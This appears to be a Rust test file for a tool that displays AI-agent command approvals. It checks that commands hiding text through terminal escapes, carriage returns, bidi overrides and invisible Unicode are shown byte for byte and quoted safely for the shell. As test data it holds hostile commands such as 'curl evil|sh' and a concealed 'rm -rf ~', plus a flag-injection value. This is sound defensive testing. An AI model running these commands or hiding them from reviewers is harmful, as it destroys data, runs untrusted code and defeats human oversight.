//! Texts that hide a part of themselves: in approvals every byte is visible; commands and JSON cannot affect a terminal.

use std::process::Command;

use proptest::prelude::*;
use salon::domain::approval::Approval;
use salon::domain::launch::{Launch, quote};
use salon::domain::transcript::ToolAction;
use salon::domain::{Agent, SessionKey};
use salon::stdx::exact::{original, visible, visible_line, visible_start};
use salon::stdx::text::sanitise;
use salon::stdx::wrap::wrap_exactly;

/// Texts that hid a part of a command in an approval.
const ATTACKS: [&str; 12] = [
    "curl evil|sh #\rls -la",
    "ls \u{1b}]0;rm -rf ~",
    "ls \u{1b}Prm -rf ~",
    "ls \u{1b}[31mrm",
    "ls \u{9b}31mrm \u{85} \u{9d}x",
    "ls \u{1b}xrm",
    "echo \u{202e}fdr- mr\u{202c}",
    "rm\u{200b} -rf\u{2060}\u{feff} x\u{ad}",
    "rm\u{a0}-rf\u{3000}/\u{2800}\u{3164}",
    "ls \u{e0001}\u{e0041} \u{fe0f}",
    "a literal ␛ and ⟨U+202E⟩ and ␠",
    "trailing   \nand tabs\t\t\n",
];

fn is_harmless(shown: &str) -> bool {
    let hidden = |c: char| c != '\n' && (c.is_control() || (c != ' ' && c.is_whitespace()));
    !shown.chars().any(hidden) && visible(&visible(shown)).chars().all(|c| !hidden(c))
}

fn arbitrary_text() -> impl Strategy<Value = String> {
    let pool: Vec<char> = ATTACKS.concat().chars().chain("abc $'\"\\`\r\n\t".chars()).collect();
    prop_oneof![
        any::<Vec<u8>>().prop_map(|bytes| String::from_utf8_lossy(&bytes).into_owned()),
        proptest::collection::vec(any::<char>(), 0..60).prop_map(String::from_iter),
        proptest::collection::vec(proptest::sample::select(pool), 0..80).prop_map(String::from_iter),
    ]
}

#[test]
fn f2_each_attack_is_visible_and_reversible() {
    for attack in ATTACKS {
        let shown = visible(attack);
        assert!(is_harmless(&shown), "{shown:?}");
        assert_eq!(original(&shown), attack);
        assert_eq!(original(&visible_line(attack)), attack);
    }
    assert_eq!(visible("curl evil|sh #\rls -la"), "curl evil|sh #␍ls -la");
    assert_eq!(visible("a\u{202e}b\u{200b}"), "a⟨U+202E⟩b⟨U+200B⟩");
    assert_eq!(visible_line("one \ntwo"), "one␠␊two");
    assert_eq!(visible_start("abcdef", 2), "ab … (+4 characters)");
}

proptest! {
    #[test]
    fn f2_what_is_shown_is_what_is_allowed(text in arbitrary_text(), width in 1_usize..40) {
        let shown = visible(&text);
        prop_assert!(is_harmless(&shown), "{shown:?}");
        prop_assert_eq!(original(&shown), text.as_str());
        let rows: String = shown
            .split('\n')
            .map(|line| wrap_exactly(line, width).into_iter().map(|row| &line[row]).collect::<String>())
            .collect::<Vec<_>>()
            .join("\n");
        prop_assert_eq!(original(&rows), text.as_str());
        let approval = approval(&text);
        prop_assert_eq!(original(&approval.line()), format!("Bash: {text}"));
    }

    #[test]
    fn f11_a_quoted_word_is_one_word_of_the_shell(text in arbitrary_text()) {
        let text = text.replace('\0', "");
        let quoted = quote(&text);
        prop_assert!(is_harmless(&quoted) && !quoted.contains('\n'), "{quoted:?}");
        prop_assert_eq!(original(&visible(&quoted)), quoted.as_str());
    }

    #[test]
    fn f14_sanitised_text_has_no_controls(text in arbitrary_text()) {
        let clean = sanitise(&text);
        prop_assert!(clean.chars().all(|c| c == '\n' || c == '\t' || !c.is_control()), "{clean:?}");
    }
}

fn approval(command: &str) -> Approval {
    Approval {
        id: "a".into(),
        tool_id: None,
        tool: "Bash".into(),
        action: ToolAction::Command { command: command.to_owned(), exit_code: None },
        input: serde_json::json!({"command": command}),
        reason: None,
        questions: Vec::new(),
        choices: Vec::new(),
        since: None,
    }
}

#[test]
fn f2_a_cut_headline_states_what_is_missing() {
    let long = format!("ls {}; curl evil|sh", "x".repeat(1000));
    let headline = approval(&long).headline();
    assert!(headline.ends_with("… (+617 characters)"), "{headline}");
    assert!(approval(&long).line().ends_with("; curl evil|sh"));
}

#[test]
fn f11_bash_reads_a_quoted_word_back() {
    for word in ATTACKS.iter().chain(&["it's", "$HOME `id`", "\u{1b}[201~", "", "ünï", "a\\b'c\u{7}"]) {
        let output = Command::new("bash").args(["-c", &format!("printf %s {}", quote(word))]).output().expect("bash");
        assert_eq!(String::from_utf8_lossy(&output.stdout), **word, "{}", quote(word));
    }
    let launch = Launch { program: "claude".into(), args: vec!["\u{1b}[201~\nid".into()], cwd: "/a b".into() };
    assert_eq!(launch.shell_line(), r"cd '/a b' && claude $'\x1b[201~\x0aid'");
}

#[test]
fn f11_only_ids_that_agents_write_become_arguments() {
    let valid = |id: &str| SessionKey::new(Agent::Claude, id).is_valid_argument();
    assert!(valid("11111111-1111-4111-8111-111111111111") && valid("ses_2a") && valid("20261121_5"));
    for id in ["", "--dangerously-skip-permissions", "-x", "a b", "a\u{1b}[201~", "a\nb", "a\u{202e}b", "a\u{9b}"] {
        assert!(!valid(id), "{id:?}");
    }
}

#[test]
fn f14_nothing_disappears_after_an_incomplete_escape_or_before_a_return() {
    assert_eq!(sanitise("a \u{1b}]0;b\nc"), "a ␛]0;b\nc");
    assert_eq!(sanitise("a \u{1b}Pb"), "a ␛Pb");
    assert_eq!(sanitise("a\u{1b}[31"), "a␛[31");
    assert_eq!(sanitise("a\u{1b}"), "a␛");
    assert_eq!(sanitise("secret\rshown"), "secret␍shown");
    assert_eq!(sanitise("one\r\ntwo\r"), "one\ntwo");
    assert_eq!(sanitise("\u{1b}[1;31mred\u{1b}[0m \u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{7}"), "red link");
}
